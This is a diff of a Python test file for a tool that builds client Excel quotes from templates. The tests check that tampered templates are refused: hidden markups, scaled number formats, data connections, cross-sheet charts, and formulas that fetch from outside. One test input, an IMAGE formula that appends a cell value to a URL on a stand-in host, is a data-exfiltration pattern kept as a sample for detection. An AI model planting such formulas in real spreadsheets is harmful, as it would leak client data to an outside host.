@@ -126,17 +126,112 @@ def test_a_folder_where_a_pdf_belongs_fails_that_deal_only(tmp_path):
     assert by_id["N-102"]["message"].startswith("its old N-102.pdf cannot be removed: [Errno 21] Is a directory")
 
 
-def test_a_template_whose_quote_shows_another_value_than_the_summary_fails_its_deals(tmp_path):
-    """Was: a template with =EstimatedValue+10 on its Quote sheet sent the client 988.12 while the
-    summary said 978.12."""
+def test_a_template_whose_quote_shows_another_value_than_the_summary_is_refused_or_fails(tmp_path):
+    """Was: =EstimatedValue+10 on the Quote sheet sent the client 988.12 while the summary said
+    978.12; then (second round) a hidden =EstimatedValue beside the page passed the check."""
     wb = openpyxl.load_workbook(NOTE_TEMPLATE)
     cell = next(c for row in wb["Quote"].iter_rows() for c in row if c.value == "=EstimatedValue")
-    cell.value = "=EstimatedValue+10"
+    cell.value = "=EstimatedValue*1.02"
+    wb["Quote"]["Z1"] = "=EstimatedValue"
     wb.save(tmp_path / "markup.xlsx")
     result = run_with(tmp_path, tmp_path / "markup.xlsx")
-    assert result.returncode == 1
-    assert "the template's Quote sheet does not show the estimated value the summary reports (978.124)" in result.stderr
+    assert result.returncode == 2
+    assert "its Quote sheet must show =EstimatedValue in a printed cell (inside its print area)" in result.stderr
+    cell.value = "=EstimatedValue"
+    cell.number_format = '#,##0.00,'  # shown in thousands: 0.98
+    wb.save(tmp_path / "scaled.xlsx")
+    result = run_with(tmp_path, tmp_path / "scaled.xlsx")
+    assert result.returncode == 2 and f"Quote!{cell.coordinate} shows EstimatedValue with the number format " \
+                                      "'#,##0.00,'" in result.stderr
+    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
+    sheet, ref = next(iter(wb.defined_names["EstimatedValue"].destinations))
+    wb[sheet][ref.replace("$", "")] = wb[sheet][ref.replace("$", "")].value + "+10"  # a markup at the source
+    wb.save(tmp_path / "source.xlsx")
+    result = run_with(tmp_path, tmp_path / "source.xlsx")
+    assert result.returncode == 1 and "shows 988.124" in result.stderr and "as EstimatedValue where the summary " \
+                                                                          "reports 978.124" in result.stderr
     assert listing(tmp_path / "out") == ["summary.csv"]
+
+
+def test_a_warrant_with_a_short_lookback_window_is_quoted_as_the_template_computes_it(tmp_path):
+    """Was: the template's 21-row Closes range made WARRANT_VALUE refuse a window of 8 trading days
+    (#VALUE! in Excel and the engine) while the fast path quoted a number."""
+    deal = dict(example("W-201"), window_end="2025-06-02")
+    deals, failures = read_deals(write_deals(tmp_path / "deals.csv", [deal]))
+    assert failures == []
+    book = QuoteBook(ROOT / "workbooks" / "bearish_put_warrant.xlsx", BY_KEY["warrant"])
+    fast = book.values(deals[0])
+    book.calculation = Calculation(ROOT / "workbooks" / "bearish_put_warrant.xlsx")
+    slow = book.values(deals[0])
+    assert all(fast[ref] == pytest.approx(slow[ref], rel=1e-12) if isinstance(fast[ref], float) else
+               fast[ref] == slow[ref] for ref in fast)
+    shown = [fast[ref] for ref in book.sheet.key_cells["EstimatedValue"]]
+    assert shown == [pytest.approx(quotes.analyse(deals[0])["value"], rel=1e-12)] and shown[0] > 0
+
+
+def test_the_engine_writes_model_inputs_as_excel_does(tmp_path):
+    """Was: on a changed template (the engine's path) a spot of 0.5 read "spot 0,.50"."""
+    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
+    cell = next(c for row in wb["Quote"].iter_rows() for c in row if c.value == "=AsOf")
+    cell.value = "=AsOf+0"
+    wb.save(tmp_path / "engine.xlsx")
+    deal = dict(example("N-101"), initial="0.5", spot="0.5")
+    records, _ = quotes.run(write_deals(tmp_path / "deals.csv", [deal]), tmp_path / "out",
+                            templates={"note": tmp_path / "engine.xlsx"})
+    assert records[0]["status"] == "written", records[0]["message"]
+    texts = [c.value for row in openpyxl.load_workbook(tmp_path / "out" / "N-101.xlsx")["Quote"].iter_rows()
+             for c in row if isinstance(c.value, str) and c.value.startswith("spot ")]
+    assert texts == ["spot 0.50, vol 15.0%, rate 5.30%, dividend yield 1.50%, funding spread 1.00%"]
+
+
+def test_an_amount_too_large_for_the_page_fails_instead_of_showing_hashes(tmp_path):
+    """Was: principal 1e11 printed "Estimated value ###" and every payment as ###."""
+    deal = dict(example("N-101"), principal="100000000000")
+    records, _ = quotes.run(write_deals(tmp_path / "deals.csv", [deal]), tmp_path / "out")
+    assert records[0]["status"] == "failed"
+    assert "is too narrow for $" in records[0]["message"] and "(the page would show ###)" in records[0]["message"]
+    records, _ = quotes.run(write_deals(tmp_path / "deals.csv", [dict(deal, principal="1000000")]), tmp_path / "out")
+    assert records[0]["status"] == "written"
+
+
+@pytest.mark.parametrize("part", ["xl/connections.xml", "xl/pivotCache/pivotCacheDefinition1.xml",
+                                  "xl/embeddings/oleObject1.bin", "xl/queryTables/queryTable1.xml"])
+def test_data_connections_queries_pivot_caches_and_objects_are_refused(tmp_path, part):
+    def change(name, data):
+        return data
+    change.extra = {part: b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'}
+    from test_outside_templates import repacked
+    result = run_with(tmp_path, repacked(NOTE_TEMPLATE, tmp_path / "conn.xlsx", change))
+    assert result.returncode == 2 and f"holds {part}: a template may hold no data connections" in result.stderr
+
+
+@pytest.mark.parametrize("formula", ['=_xlfn.STOCKHISTORY("SPX",TODAY())', '=_xlfn.IMAGE("http://x.invalid/"&B4)',
+                                     '=CUBEVALUE("conn","[Measures].[x]")'])
+def test_functions_that_fetch_are_refused(tmp_path, formula):
+    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
+    wb["Quote"]["A60"] = formula
+    wb.save(tmp_path / "fetch.xlsx")
+    result = run_with(tmp_path, tmp_path / "fetch.xlsx")
+    assert result.returncode == 2 and "Quote!A60 refers outside the workbook" in result.stderr
+
+
+def test_a_chart_plotting_another_sheet_is_refused(tmp_path):
+    """Was: a chart of the Valuation sheet's numbers reached the client with its cached values."""
+    from openpyxl.chart import BarChart, Reference
+    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
+    chart = BarChart()
+    chart.add_data(Reference(wb["Valuation"], min_col=2, min_row=5, max_row=9))
+    wb["Quote"].add_chart(chart, "G5")
+    wb.save(tmp_path / "chart.xlsx")
+    result = run_with(tmp_path, tmp_path / "chart.xlsx")
+    assert result.returncode == 2 and "its Quote sheet's chart 2 plots 'Valuation'!$B$5:$B$9" in result.stderr
+
+
+def test_no_chart_cache_reaches_the_client(tmp_path):
+    quotes.run(write_deals(tmp_path / "deals.csv", [example("N-101")]), tmp_path / "out")
+    with zipfile.ZipFile(tmp_path / "out" / "N-101.xlsx") as package:
+        chart = package.read(next(n for n in package.namelist() if n.startswith("xl/charts/chart")))
+    assert b"numCache" not in chart and b"strCache" not in chart and b"'Chart data'!" in chart
 
 
 def test_outside_references_in_formats_and_validations_are_refused_and_comments_never_reach_clients(tmp_path):
@@ -210,10 +305,11 @@ def test_author_and_company_are_checked_before_anything_is_written(tmp_path, opt
     assert (tmp_path / "out" / "N-101.xlsx").read_bytes() == before
 
 
-def test_excel_s_sep_line_names_the_delimiter(tmp_path):
-    """Was: unknown column 'sep=;'."""
-    text = (ROOT / "examples" / "deals.csv").read_text().replace(",", "|")
-    (tmp_path / "deals.csv").write_text("sep=|\n" + text)
+@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
+def test_excel_s_sep_line_names_the_delimiter(tmp_path, newline):
+    """Was: unknown column 'sep=;'; then, with old-Mac line ends, no header row."""
+    text = (ROOT / "examples" / "deals.csv").read_text().replace(",", "|").replace("\n", newline)
+    (tmp_path / "deals.csv").write_bytes(("sep=|" + newline + text).encode())
     deals, failures = read_deals(tmp_path / "deals.csv")
     assert failures == [] and len(deals) == 16 and deals[0].row == 3
 
@@ -224,6 +320,9 @@ def test_quotes_of_deals_no_longer_listed_are_named(tmp_path, capsys):
     write_deals(deals, [example("N-101")])
     assert quotes.main(deals, tmp_path / "out", 1, False, []) == 0
     assert "1 quote(s) of deals not in this list left as they are: N-102.xlsx" in capsys.readouterr().err
+    (tmp_path / "out" / "N-103.pdf").write_bytes(b"%PDF")
+    assert quotes.main(deals, tmp_path / "out", 1, False, []) == 0
+    assert "2 quote(s) of deals not in this list left as they are: N-102.xlsx, N-103.pdf" in capsys.readouterr().err
 
 
 def test_a_subnormal_amount_is_refused():
